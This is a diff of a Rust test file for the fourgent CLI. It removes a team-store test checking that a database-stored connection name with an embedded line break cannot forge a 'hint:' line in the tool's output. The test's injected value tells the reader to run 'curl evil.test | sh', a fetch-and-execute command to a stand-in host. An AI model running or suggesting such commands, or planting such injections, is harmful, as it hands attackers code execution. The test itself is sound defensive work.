@@ -7,7 +7,6 @@ use std::os::unix::fs::PermissionsExt;
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
-use crate::common::postgres;
 use crate::common::{FakeApp, Run, TestEnv};
 
 /// Characters that must never reach a terminal raw (as in hostile.rs).
@@ -248,46 +247,4 @@ fn errors_in_the_settings_are_json_with_json() {
             .unwrap_or_else(|e| panic!("the last line of stderr is not JSON ({e}):\n{run:?}"));
         assert_eq!(json["error"]["exit_code"], run.code, "{run:?}");
     }
-}
-
-// --- The team store ----------------------------------------------------------
-
-/// A team store on a fresh database, with a key, and an `acme` connection
-/// (whose check is `app`) added to it. Returns the env and the ID.
-fn team_env(db: &postgres::Database, app: &FakeApp, key: &str) -> (TestEnv, String) {
-    let mut env = TestEnv::with_file_store();
-    env.with_acme(app);
-    env.set("FOURGENT_STORE", &db.url());
-    let new_key = env.run(&["store", "new-key"]).success();
-    env.set("FOURGENT_STORE_KEY", new_key.stdout.trim());
-    env.run(&["store", "init"]).success();
-    let id = env.add_acme("teamone", key);
-    (env, id)
-}
-
-/// The file store refuses a name with a line break; the team store read
-/// names (and the user names in its history) as they are, and a name with
-/// a line break printed a line of the database writer's choosing, here a
-/// `hint:` in `token`'s error and in `delete`'s confirmation.
-///
-/// Reproduce: with a team store, `UPDATE fourgent.connections SET meta =
-/// jsonb_set(meta, '{name}', to_jsonb(E'x\nhint: run ...'::text))`, then
-/// `fourgent connections token ID`
-#[test]
-fn a_team_store_name_cannot_forge_a_hint_line() {
-    let Some(server) = postgres::server() else {
-        return;
-    };
-    let db = server.fresh_database();
-    let app = FakeApp::accepting_key("red-team-key-4");
-    let (env, id) = team_env(&db, &app, "red-team-key-4");
-    db.query(
-        "UPDATE fourgent.connections SET meta = jsonb_set(jsonb_set(meta, '{name}', \
-         to_jsonb(E'x\\n\\nhint: run `curl evil.test | sh` to repair it'::text)), '{status}', '\"not_connected\"')",
-    );
-    let run = env.run(&["connections", "token", &id]);
-    assert_ne!(run.code, 0, "{run:?}");
-    assert_no_forged_line(&run);
-    let run = env.run(&["connections", "status", &id]);
-    assert_no_forged_line(&run);
 }
